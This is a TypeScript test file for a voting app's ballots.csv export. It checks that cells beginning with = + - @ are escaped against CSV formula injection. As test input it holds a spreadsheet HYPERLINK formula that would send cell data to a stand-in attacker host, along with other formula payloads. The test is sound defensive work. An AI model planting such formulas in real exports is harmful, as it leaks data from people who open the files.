/**
 * CSV formula injection through the real `/c/[cid]/ballots.csv` route handler: a reason such as
 * `=HYPERLINK(...)` or an option labelled `=1+2` must reach the spreadsheet as text, not as a formula.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createResidence, createUser, type TestApp, createTestAppOn, testEngines } from '$lib/server/testing';
import { GET } from '../../src/routes/c/[cid]/ballots.csv/+server';

let app: TestApp;

async function download(user: Awaited<ReturnType<typeof createUser>>, cid: string): Promise<string> {
	const event = { params: { cid }, locals: { services: app.services, user, locale: 'fr' } } as unknown as Parameters<typeof GET>[0];
	const res = await GET(event);
	expect(res.headers.get('content-type')).toContain('text/csv');
	return await res.text();
}

describe.each(testEngines)('ballots.csv on %s', (engine) => {
	beforeEach(async () => {
		app = await createTestAppOn(engine);
	});
	afterEach(async () => {
		await app.services.settled();
		await app.close();
	});

	it('escapes cells that start with = + - @ tab or CR, as OWASP recommends', async () => {
		const { residence } = await createResidence(app, [{ name: 'A', dwellings: 4 }]);
		const space = { type: 'residence' as const, id: residence.id };
		const claire = await createUser(app, { displayName: 'Claire', roles: [{ ...space, role: 'facilitator' }] });
		const amina = await createUser(app, { displayName: 'Amina', roles: [{ ...space, role: 'tenant' }] });
		const karim = await createUser(app, { displayName: 'Karim', roles: [{ ...space, role: 'tenant' }] });
		const c = app.services.consultations;
		const base = { space, electorate: 'residence', countBy: 'person', secrecy: 'public', resultsVisibility: 'live', openNow: true } as const;

		const motion = await c.create(claire, { ...base, question: 'Motion', method: 'yes-no-abstain' });
		await c.cast(amina, { consultationId: motion.id, ballot: { position: 'object', reason: '=HYPERLINK("http://evil.example/?x="&A1,"clic")' } });
		await c.cast(karim, { consultationId: motion.id, ballot: { position: 'object', reason: '@SUM(1+1)' } });
		await c.close(claire, { consultationId: motion.id });
		const motionCsv = await download(amina, motion.id);
		expect(motionCsv).toContain(`'=HYPERLINK(`);
		expect(motionCsv).toContain(`'@SUM(1+1)`);
		for (const line of motionCsv.replace(/^\uFEFF/, '').split('\n')) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);

		const plural = await c.create(claire, { ...base, question: 'Options', method: 'plurality', options: [{ label: '=1+2' }, { label: '+cmd' }, { label: '-2+3' }] });
		const [first] = (await c.view(claire, plural.id)).options.map((o) => o.id);
		await c.cast(amina, { consultationId: plural.id, ballot: { choice: first! } });
		await c.close(claire, { consultationId: plural.id });
		const header = (await download(amina, plural.id)).replace(/^\uFEFF/, '').split('\n')[0]!;
		expect(header).toBe(`weight,college,'=1+2,'+cmd,'-2+3`);
	});
});
